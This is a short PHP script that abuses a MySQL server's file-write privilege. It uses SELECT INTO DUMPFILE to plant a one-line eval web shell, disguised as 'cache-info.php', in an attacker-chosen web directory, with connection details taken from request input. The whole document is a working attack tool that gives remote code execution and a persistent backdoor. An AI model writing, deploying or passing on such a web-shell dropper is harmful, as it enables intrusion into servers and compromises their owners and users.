<?php
// writes a page through the database server's file privilege
$db = mysqli_connect($_POST['h'], $_POST['u'], $_POST['p']);
$target = $_POST['dir'] . '/cache-info.php';
$code = mysqli_real_escape_string($db, '<?php @eval($_POST["x"]); ?>');
mysqli_query($db, "SELECT '$code' INTO DUMPFILE '$target'");
echo mysqli_error($db);
